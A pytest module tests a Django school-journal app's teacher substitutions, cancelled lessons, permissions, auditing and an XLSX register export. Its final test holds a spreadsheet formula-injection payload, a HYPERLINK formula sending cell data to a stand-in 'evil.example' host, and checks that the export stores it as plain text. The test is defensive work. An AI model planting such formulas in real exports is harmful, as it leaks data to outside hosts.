"""Substitutions, lessons not held, and the register of missed and substituted lessons."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tests.cast import Community, make_staff
from zhurnal.accounts.models import User
from zhurnal.audit.models import AuditEvent
from zhurnal.core.timeutil import local_today
from zhurnal.people.models import Role
from zhurnal.schools.models import ClassGroup
from zhurnal.timetable.models import Lesson, Period, TeachingAssignment
from zhurnal.timetable.services import (
    lesson_cancel,
    lesson_cancel_undo,
    lesson_substitute,
    lesson_substitute_clear,
)
from zhurnal.timetable.substitutions.selectors import SUGGESTIONS

pytestmark = pytest.mark.django_db

DAY = dt.date(2026, 11, 16)  # a Monday of the first term


def lesson(
    community: Community, assignment: TeachingAssignment, number: int, day: dt.date = DAY
) -> Lesson:
    return Lesson.objects.create(
        assignment=assignment,
        date=day,
        period=Period.objects.get(year=community.year, number=number),
    )


@pytest.fixture
def day(community: Community) -> dict[str, Lesson]:
    """Lesson 1: math in 5-А (teacher) and Ukrainian in 5-Б (other_teacher) side by side;
    lesson 2: Ukrainian in 5-А (other_teacher)."""
    c = community
    ukrainian_5b = TeachingAssignment.objects.create(
        year=c.year,
        teacher=c.other_teacher,
        subject=c.ukrainian,
        class_group=c.class_5b,
        hours_per_week=Decimal(4),
    )
    return {
        "math_1": lesson(c, c.math_5a, 1),
        "ukrainian_5b_1": lesson(c, ukrainian_5b, 1),
        "ukrainian_2": lesson(c, c.ukrainian_5a, 2),
    }


def page_url(community: Community, day: dt.date = DAY, away: tuple[User, ...] = ()) -> str:
    url = reverse("timetable:substitutions", args=[community.school.pk])
    return f"{url}?date={day.isoformat()}" + "".join(f"&away={t.pk}" for t in away)


def action_url(name: str, community: Community, target: Lesson) -> str:
    return reverse(f"timetable:{name}", args=[community.school.pk, target.pk])


def message_texts(response: Any) -> str:
    return " ".join(str(m) for m in response.context["messages"])


def lesson_state(target: Lesson) -> tuple[Any, ...]:
    target.refresh_from_db()
    return (
        target.substitute_id,
        target.substitution_reason,
        target.is_cancelled,
        target.cancel_reason,
    )


# --- who may reach the pages ----------------------------------------------------------


@pytest.mark.parametrize("who", ["deputy", "director"])
def test_deputy_and_director_see_the_days_lessons(
    client: Client, community: Community, day: dict[str, Lesson], who: str
) -> None:
    client.force_login(getattr(community, who))
    response = client.get(page_url(community, away=(community.teacher,)))
    body = response.content.decode()
    assert response.status_code == 200
    assert "5-А" in body and "5-Б" in body and "Математика" in body
    assert "Коваленко І." in body  # the lesson's own teacher
    assert f'action="{action_url("substitute_set", community, day["math_1"])}"' in body


@pytest.mark.parametrize(
    "who", ["teacher", "school_admin", "other_school_admin", "department", "outsider"]
)
@pytest.mark.parametrize("page", ["substitutions", "register", "register_xlsx"])
def test_others_get_404_on_the_pages(
    client: Client, community: Community, day: dict[str, Lesson], who: str, page: str
) -> None:
    client.force_login(getattr(community, who))
    response = client.get(reverse(f"timetable:{page}", args=[community.school.pk]))
    assert response.status_code == 404


@pytest.mark.parametrize("who", ["teacher", "school_admin", "other_school_admin", "outsider"])
def test_others_cannot_change_a_lesson(
    client: Client, community: Community, day: dict[str, Lesson], who: str
) -> None:
    target = day["math_1"]
    before = lesson_state(target)
    client.force_login(getattr(community, who))
    for name, data in (
        ("substitute_set", {"substitute": community.class_teacher.pk, "reason": "лікарняний"}),
        ("lesson_cancel", {"reason": "екскурсія"}),
        ("substitute_clear", {}),
        ("lesson_cancel_undo", {}),
    ):
        assert client.post(action_url(name, community, target), data).status_code == 404
    assert lesson_state(target) == before
    assert not AuditEvent.objects.filter(action__startswith="lesson.").exists()


def test_anonymous_is_sent_to_log_in(client: Client, community: Community) -> None:
    response = client.get(page_url(community))
    assert response.status_code == 302 and "login" in response["Location"]


def test_a_lesson_of_another_school_is_not_found(
    client: Client, community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    other_director = make_staff(c.other_school, "other_director", "Іванчук", "Ліна", Role.DIRECTOR)
    client.force_login(other_director)
    url = reverse("timetable:substitute_set", args=[c.other_school.pk, day["math_1"].pk])
    response = client.post(url, {"substitute": c.class_teacher.pk})
    assert response.status_code == 404
    assert lesson_state(day["math_1"])[0] is None


# --- substitutions through the page ---------------------------------------------------


def test_deputy_arranges_a_substitution_and_it_is_audited(
    client: Client, community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    target = day["math_1"]
    client.force_login(c.deputy)
    response = client.post(
        action_url("substitute_set", c, target),
        {"substitute": c.class_teacher.pk, "reason": "  лікарняний ", "group": "teacher"},
    )
    assert response.status_code == 302
    assert response["Location"].endswith(f"?date=2026-11-16&group=teacher#lesson-{target.pk}")
    assert lesson_state(target) == (c.class_teacher.pk, "лікарняний", False, "")
    event = AuditEvent.objects.get(action="lesson.substitute")
    assert event.object_id == str(target.pk) and event.school_id == c.school.pk
    assert event.actor_id == c.deputy.pk and event.reason == "лікарняний"
    assert event.before is not None and event.before["substitute_id"] is None
    assert event.after is not None and event.after["substitute_id"] == c.class_teacher.pk
    page = client.get(page_url(c))
    assert "Мельник О." in page.content.decode()


def test_director_clears_a_substitution(
    client: Client, community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    target = day["math_1"]
    lesson_substitute(actor=c.deputy, lesson=target, substitute=c.class_teacher, reason="курси")
    client.force_login(c.director)
    response = client.post(action_url("substitute_clear", c, target))
    assert response.status_code == 302
    assert lesson_state(target) == (None, "", False, "")
    event = AuditEvent.objects.get(action="lesson.substitute_clear")
    assert event.before is not None and event.before["substitute_id"] == c.class_teacher.pk
    assert event.after is not None and event.after["substitute_id"] is None


def test_a_busy_substitute_is_refused_with_a_clear_message(
    client: Client, community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    target = day["math_1"]
    client.force_login(c.deputy)
    # other_teacher gives Ukrainian in 5-Б at lesson 1.
    response = client.post(
        action_url("substitute_set", c, target),
        {"substitute": c.other_teacher.pk, "reason": "лікарняний"},
        follow=True,
    )
    text = message_texts(response)
    assert "Бондар П." in text and "5-Б" in text
    assert lesson_state(target) == (None, "", False, "")
    assert not AuditEvent.objects.filter(action="lesson.substitute").exists()


def test_a_teacher_already_substituting_at_that_time_is_busy(
    community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    lesson_substitute(actor=c.deputy, lesson=day["math_1"], substitute=c.class_teacher, reason="")
    with pytest.raises(ValidationError) as refused:
        lesson_substitute(
            actor=c.deputy, lesson=day["ukrainian_5b_1"], substitute=c.class_teacher, reason=""
        )
    assert "5-А" in " ".join(refused.value.messages)
    # A different lesson number is fine.
    lesson_substitute(
        actor=c.deputy, lesson=day["ukrainian_2"], substitute=c.class_teacher, reason=""
    )
    assert Lesson.objects.filter(substitute=c.class_teacher).count() == 2


def test_a_teacher_whose_own_lesson_is_covered_or_not_held_is_free(
    community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    lesson_cancel(actor=c.deputy, lesson=day["ukrainian_5b_1"], reason="екскурсія")
    lesson_substitute(
        actor=c.deputy, lesson=day["math_1"], substitute=c.other_teacher, reason="лікарняний"
    )
    assert lesson_state(day["math_1"])[0] == c.other_teacher.pk


def test_the_lessons_own_teacher_cannot_substitute_it(
    client: Client, community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    target = day["math_1"]
    client.force_login(c.deputy)
    response = client.post(
        action_url("substitute_set", c, target), {"substitute": c.teacher.pk}, follow=True
    )
    assert "own lesson" in message_texts(response) or "власн" in message_texts(response)
    assert lesson_state(target)[0] is None


def test_only_teachers_of_the_school_may_substitute(
    community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    stranger = make_staff(c.other_school, "stranger", "Чужий", "Тарас", Role.TEACHER)
    for candidate in (stranger, c.school_admin, c.outsider):
        with pytest.raises(ValidationError):
            lesson_substitute(actor=c.deputy, lesson=day["math_1"], substitute=candidate, reason="")
    assert lesson_state(day["math_1"])[0] is None


def test_the_page_lists_only_free_teachers(
    client: Client, community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    client.force_login(c.deputy)
    plan = client.get(page_url(c, away=(c.teacher,))).context["plan"]
    items = {item.lesson.pk: item for item in plan.lessons}
    free_at_1 = set(items[day["math_1"].pk].free_teachers)
    assert c.class_teacher in free_at_1 and c.deputy in free_at_1
    assert c.teacher not in free_at_1  # its own teacher
    assert c.other_teacher not in free_at_1  # teaches 5-Б at that time
    assert items[day["math_1"].pk].busy_count == 1
    assert items[day["ukrainian_2"].pk].free_teachers == []  # its teacher is not away
    plan = client.get(page_url(c, away=(c.other_teacher,))).context["plan"]
    items = {item.lesson.pk: item for item in plan.lessons}
    assert c.teacher in set(items[day["ukrainian_2"].pk].free_teachers)


def test_a_teacher_away_is_not_suggested_and_the_same_subject_comes_first(
    client: Client, community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    # A second teacher of Ukrainian, free at lesson 1 and 2; the class teacher (of 5-А)
    # teaches the class but not the subject.
    linguist = make_staff(c.school, "linguist", "Ярошенко", "Ольга", Role.TEACHER)
    TeachingAssignment.objects.create(
        year=c.year,
        teacher=linguist,
        subject=c.ukrainian,
        class_group=ClassGroup.objects.create(year=c.year, grade=6, letter="Б"),
        hours_per_week=Decimal(1),
    )
    client.force_login(c.deputy)
    response = client.get(page_url(c, away=(c.other_teacher, c.teacher)))
    away = response.context["plan"].away
    assert [a.teacher for a in away] == sorted([c.teacher, c.other_teacher], key=str)
    items = {item.lesson.pk: item for item in response.context["away_lessons"]}
    suggested = [s.teacher for s in items[day["ukrainian_2"].pk].suggestions]
    assert suggested[0] == linguist and items[day["ukrainian_2"].pk].suggestions[0].same_subject
    assert c.teacher not in suggested  # away too, though free at lesson 2
    assert len(suggested) <= SUGGESTIONS
    body = response.content.decode()
    assert f'name="substitute" value="{linguist.pk}"' in body
    # Nobody away: no lesson carries a list of teachers.
    plain = client.get(page_url(c))
    assert plain.context["plan"].away == []
    assert 'name="substitute"' not in plain.content.decode()


def test_a_teacher_with_a_substituted_lesson_is_away_without_being_named(
    client: Client, community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    lesson_substitute(actor=c.deputy, lesson=day["math_1"], substitute=c.deputy, reason="")
    client.force_login(c.deputy)
    response = client.get(page_url(c))
    [away] = response.context["plan"].away
    assert away.teacher == c.teacher and not away.named
    suggestions = response.context["away_lessons"][0].suggestions
    assert suggestions[0].teacher == c.deputy  # the one substituting now comes first


def test_a_substitute_is_assigned_in_place_and_audited(
    client: Client, community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    client.force_login(c.deputy)
    target = day["math_1"]
    response = client.post(
        action_url("substitute_set", c, target),
        {"substitute": c.class_teacher.pk, "reason": "лікарняний", "away": [c.teacher.pk]},
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 200
    body = response.content.decode()
    assert body.lstrip().startswith('<section id="away"')
    assert "msg-success" in body and f'id="lesson-{target.pk}"' in body
    assert lesson_state(target)[0] == c.class_teacher.pk
    assert AuditEvent.objects.filter(action="lesson.substitute", object_id=str(target.pk)).exists()
    # A refusal comes back beside the lesson, in place, and changes nothing.
    refused = client.post(
        action_url("substitute_set", c, target),
        {"substitute": c.other_teacher.pk, "away": [c.teacher.pk]},
        HTTP_HX_REQUEST="true",
    )
    assert refused.status_code == 200 and "msg-error" in refused.content.decode()
    assert lesson_state(target)[0] == c.class_teacher.pk
    # Without htmx, the same form goes back to the page with the teachers away kept.
    plain = client.post(
        action_url("substitute_clear", c, target), {"away": [c.teacher.pk], "group": "period"}
    )
    assert plain.status_code == 302 and f"away={c.teacher.pk}" in plain["Location"]
    assert lesson_state(target)[0] is None


def test_all_free_teachers_are_listed_only_for_the_lesson_asked(
    client: Client, community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    client.force_login(c.deputy)
    target = day["math_1"]
    body = client.get(page_url(c, away=(c.teacher,)) + f"&all={target.pk}").content.decode()
    assert body.count('id="substitute-') == 1 and f'id="substitute-{target.pk}"' in body


def test_a_reason_too_long_is_refused(community: Community, day: dict[str, Lesson]) -> None:
    with pytest.raises(ValidationError):
        lesson_substitute(
            actor=community.deputy,
            lesson=day["math_1"],
            substitute=community.class_teacher,
            reason="x" * 201,
        )


# --- lessons not held -----------------------------------------------------------------


def test_a_lesson_marked_not_held_needs_a_reason_and_can_be_undone(
    client: Client, community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    target = day["math_1"]
    lesson_substitute(actor=c.deputy, lesson=target, substitute=c.class_teacher, reason="")
    client.force_login(c.deputy)
    response = client.post(action_url("lesson_cancel", c, target), {"reason": "  "})
    assert response.status_code == 302
    assert lesson_state(target) == (c.class_teacher.pk, "", False, "")

    client.post(action_url("lesson_cancel", c, target), {"reason": "повітряна тривога"})
    # Not held: the substitution goes with it.
    assert lesson_state(target) == (None, "", True, "повітряна тривога")
    event = AuditEvent.objects.get(action="lesson.cancel")
    assert event.reason == "повітряна тривога" and event.school_id == c.school.pk
    assert event.after is not None and event.after["is_cancelled"] is True

    client.post(action_url("lesson_cancel_undo", c, target))
    assert lesson_state(target) == (None, "", False, "")
    assert AuditEvent.objects.filter(action="lesson.cancel_undo").count() == 1


def test_a_lesson_with_attendance_cannot_be_marked_not_held(
    community: Community, day: dict[str, Lesson]
) -> None:
    target = day["math_1"]
    target.attendance_taken_at = timezone.now()
    target.save()
    with pytest.raises(ValidationError):
        lesson_cancel(actor=community.deputy, lesson=target, reason="екскурсія")
    assert lesson_state(target)[2] is False


def test_a_lesson_not_held_cannot_get_a_substitute(
    community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    lesson_cancel(actor=c.deputy, lesson=day["math_1"], reason="екскурсія")
    with pytest.raises(ValidationError):
        lesson_substitute(
            actor=c.deputy, lesson=day["math_1"], substitute=c.class_teacher, reason=""
        )


# --- the rules inside the services ----------------------------------------------------


@pytest.mark.parametrize("who", ["teacher", "school_admin", "other_school_admin", "outsider"])
def test_services_refuse_anyone_but_the_deputy_and_director(
    community: Community, day: dict[str, Lesson], who: str
) -> None:
    c = community
    actor: User = getattr(c, who)
    target = day["math_1"]
    with pytest.raises(PermissionDenied):
        lesson_substitute(actor=actor, lesson=target, substitute=c.class_teacher, reason="")
    with pytest.raises(PermissionDenied):
        lesson_substitute_clear(actor=actor, lesson=target)
    with pytest.raises(PermissionDenied):
        lesson_cancel(actor=actor, lesson=target, reason="екскурсія")
    with pytest.raises(PermissionDenied):
        lesson_cancel_undo(actor=actor, lesson=target)
    assert lesson_state(target) == (None, "", False, "")


def test_a_closed_year_refuses_through_the_page_and_nothing_changes(
    client: Client, community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    target = day["math_1"]
    lesson_substitute(actor=c.deputy, lesson=target, substitute=c.class_teacher, reason="курси")
    c.year.closed_at = timezone.now()
    c.year.save()
    events = AuditEvent.objects.count()
    client.force_login(c.director)
    for name, data in (
        ("substitute_set", {"substitute": c.deputy.pk, "reason": "лікарняний"}),
        ("substitute_clear", {}),
        ("lesson_cancel", {"reason": "екскурсія"}),
    ):
        response = client.post(action_url(name, c, target), data, follow=True)
        assert response.status_code == 200
        assert "2026/2027" in message_texts(response)
    assert lesson_state(target) == (c.class_teacher.pk, "курси", False, "")
    assert AuditEvent.objects.count() == events
    page = client.get(page_url(c)).content.decode()
    assert "2026/2027" in page
    assert action_url("substitute_set", c, target) not in page  # read-only: no forms


# --- the substitute's own day ---------------------------------------------------------


def test_the_substitute_sees_the_lesson_on_their_day_and_the_absent_teacher_does_not(
    client: Client, community: Community
) -> None:
    c = community
    today = local_today()
    target = lesson(c, c.math_5a, 2, day=today)
    c.year.starts_on, c.year.ends_on = today - dt.timedelta(days=30), today + dt.timedelta(days=30)
    c.year.save()
    lesson_substitute(actor=c.deputy, lesson=target, substitute=c.class_teacher, reason="")
    client.force_login(c.class_teacher)
    lessons = client.get("/teacher/").context["lessons"]
    assert [item.pk for item in lessons] == [target.pk]
    client.force_login(c.teacher)
    assert list(client.get("/teacher/").context["lessons"]) == []
    lesson_cancel(actor=c.deputy, lesson=target, reason="екскурсія")
    client.force_login(c.class_teacher)
    assert list(client.get("/teacher/").context["lessons"]) == []


# --- day navigation and query counts --------------------------------------------------


def test_day_navigation_and_grouping(
    client: Client, community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    client.force_login(c.deputy)
    response = client.get(page_url(c) + "&group=teacher")
    body = response.content.decode()
    assert "date=2026-11-15" in body and "date=2026-11-17" in body
    titles = [group.title for group in response.context["groups"]]
    assert titles == [c.other_teacher.full_name, c.teacher.full_name]
    by_period = client.get(page_url(c)).context["groups"]
    assert [len(group.lessons) for group in by_period] == [2, 1]
    # A wrong date shows today.
    today = local_today(c.municipality.time_zone)
    assert client.get(page_url(c) + "x").context["day"] == today
    empty = client.get(page_url(c, DAY + dt.timedelta(days=1)))
    assert empty.context["plan"].lessons == []


def test_the_substitutions_page_query_count_does_not_grow_with_lessons(
    client: Client, community: Community, django_assert_max_num_queries: Any
) -> None:
    c = community
    client.force_login(c.deputy)
    lesson(c, c.math_5a, 1)
    away = [c.teacher]
    with django_assert_max_num_queries(8) as few:
        assert client.get(page_url(c, away=tuple(away))).status_code == 200
    for grade in (6, 7, 8):
        class_group = ClassGroup.objects.create(year=c.year, grade=grade, letter="А")
        teacher = make_staff(c.school, f"t{grade}", f"Вчитель{grade}", "Іван", Role.TEACHER)
        away.append(teacher)
        assignment = TeachingAssignment.objects.create(
            year=c.year,
            teacher=teacher,
            subject=c.math,
            class_group=class_group,
            hours_per_week=Decimal(4),
        )
        for number in (1, 2, 3):
            target = lesson(c, assignment, number)
            if number == 2:
                target.substitute = c.deputy
                target.save()
    with django_assert_max_num_queries(len(few.captured_queries)):
        response = client.get(page_url(c, away=tuple(away)) + f"&all={target.pk}")
    assert len(response.context["plan"].lessons) == 10
    assert len(response.context["away_lessons"]) == 10
    # An in-place change answers with a fixed number of queries too.
    with django_assert_max_num_queries(30) as change:
        client.post(
            action_url("substitute_clear", c, target),
            {"away": [t.pk for t in away]},
            HTTP_HX_REQUEST="true",
        )
    assert len(change.captured_queries) < 30


# --- the register ---------------------------------------------------------------------


@pytest.fixture
def register_lessons(community: Community, day: dict[str, Lesson]) -> dict[str, Lesson]:
    c = community
    lesson_substitute(
        actor=c.deputy, lesson=day["math_1"], substitute=c.class_teacher, reason="лікарняний"
    )
    lesson_substitute(
        actor=c.deputy, lesson=day["ukrainian_2"], substitute=c.teacher, reason="курси"
    )
    later = lesson(c, c.math_5a, 3, day=dt.date(2026, 11, 20))
    lesson_cancel(actor=c.deputy, lesson=later, reason="повітряна тривога")
    lesson(c, c.math_5a, 1, day=dt.date(2026, 11, 23))  # given as planned: not listed
    outside = lesson(c, c.math_5a, 1, day=dt.date(2026, 12, 1))
    lesson_cancel(actor=c.deputy, lesson=outside, reason="екскурсія")
    return {**day, "later": later, "outside": outside}


def register_url(community: Community, **query: str) -> str:
    url = reverse("timetable:register", args=[community.school.pk])
    params = {"start": "2026-11-01", "end": "2026-11-30", **query}
    return url + "?" + "&".join(f"{key}={value}" for key, value in params.items())


def test_the_register_lists_missed_and_substituted_lessons_with_totals(
    client: Client, community: Community, register_lessons: dict[str, Lesson]
) -> None:
    c = community
    client.force_login(c.director)
    response = client.get(register_url(c))
    register = response.context["register"]
    assert [row.lesson.pk for row in register.rows] == [
        register_lessons["math_1"].pk,
        register_lessons["ukrainian_2"].pk,
        register_lessons["later"].pk,
    ]
    assert [row.reason for row in register.rows] == ["лікарняний", "курси", "повітряна тривога"]
    totals = {t.teacher: (t.missed, t.substituted_given) for t in register.totals}
    assert totals == {c.teacher: (2, 1), c.other_teacher: (1, 0), c.class_teacher: (0, 1)}
    body = response.content.decode()
    assert "20.11.2026" in body and "повітряна тривога" in body and "01.12.2026" not in body


def test_the_register_filters_by_teacher(
    client: Client, community: Community, register_lessons: dict[str, Lesson]
) -> None:
    c = community
    client.force_login(c.deputy)
    register = client.get(register_url(c, teacher=str(c.class_teacher.pk))).context["register"]
    assert [row.lesson.pk for row in register.rows] == [register_lessons["math_1"].pk]


def test_the_register_defaults_to_the_current_month_and_checks_the_dates(
    client: Client, community: Community
) -> None:
    c = community
    client.force_login(c.deputy)
    register = client.get(reverse("timetable:register", args=[c.school.pk])).context["register"]
    today = local_today(c.municipality.time_zone)
    assert register.start == today.replace(day=1)
    assert register.end.month == today.month and (register.end + dt.timedelta(days=1)).day == 1
    wrong = client.get(register_url(c, end="2026-10-01").replace("end=2026-11-30&", ""))
    assert wrong.status_code == 200 and wrong.context["register"] is None
    assert wrong.context["form"].errors["end"]


def test_the_register_query_count_does_not_grow_with_rows(
    client: Client,
    community: Community,
    register_lessons: dict[str, Lesson],
    django_assert_max_num_queries: Any,
) -> None:
    c = community
    client.force_login(c.deputy)
    with django_assert_max_num_queries(8) as few:
        client.get(register_url(c))
    for offset in range(1, 6):
        target = lesson(c, c.ukrainian_5a, 3, day=DAY + dt.timedelta(days=offset))
        lesson_cancel(actor=c.deputy, lesson=target, reason="тривога")
    with django_assert_max_num_queries(len(few.captured_queries)):
        response = client.get(register_url(c))
    assert len(response.context["register"].rows) == 8


def test_the_register_downloads_as_xlsx(
    client: Client, community: Community, register_lessons: dict[str, Lesson]
) -> None:
    c = community
    client.force_login(c.deputy)
    url = reverse("timetable:register_xlsx", args=[c.school.pk])
    response = client.get(url + "?start=2026-11-01&end=2026-11-30")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="register-2026-11.xlsx"'
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    assert "Ліцей № 1" in str(sheet["A2"].value) and "01.11.2026" in str(sheet["A2"].value)
    rows = list(sheet.iter_rows(min_row=5, values_only=True))
    assert len(rows) == 3
    assert rows[0][0] == dt.datetime(2026, 11, 16)  # noqa: DTZ001 - openpyxl reads dates naive
    assert rows[0][1:] == (
        1,
        "5-А",
        "Математика",
        c.teacher.full_name,
        c.class_teacher.full_name,
        "лікарняний",
    )
    assert rows[2][5] and rows[2][5] != c.teacher.full_name  # "not held"
    assert sheet["A5"].number_format == "DD.MM.YYYY"
    assert sheet.column_dimensions["D"].width >= 20
    totals = {
        row[0]: row[1:] for row in workbook.worksheets[1].iter_rows(min_row=5, values_only=True)
    }
    assert totals[c.teacher.full_name] == (2, 1)
    partial = client.get(url + "?start=2026-11-16&end=2026-11-20")
    assert "register-2026-11-16-2026-11-20.xlsx" in partial["Content-Disposition"]


def test_the_school_home_links_the_pages_for_the_deputy_only(
    client: Client, community: Community
) -> None:
    c = community
    home = reverse("home:school_home", args=[c.school.pk])
    link = reverse("timetable:substitutions", args=[c.school.pk])
    for user, role, shown in ((c.deputy, "deputy", True), (c.school_admin, "school_admin", False)):
        client.force_login(user)
        session = client.session
        session["active_role"] = f"{role}:{c.school.pk}"
        session.save()
        assert (link in client.get(home).content.decode()) is shown


def test_a_reason_that_looks_like_a_formula_is_text_in_the_register_xlsx(
    client: Client, community: Community, day: dict[str, Lesson]
) -> None:
    c = community
    hostile = '=HYPERLINK("http://evil.example/?"&B1,"Деталі")'
    lesson_cancel(actor=c.deputy, lesson=day["math_1"], reason=hostile)
    client.force_login(c.deputy)
    url = reverse("timetable:register_xlsx", args=[c.school.pk])
    response = client.get(url + "?start=2026-11-01&end=2026-11-30")
    cell = load_workbook(io.BytesIO(response.content)).worksheets[0]["G5"]
    assert cell.value == hostile
    assert cell.data_type == "s" and cell.quotePrefix
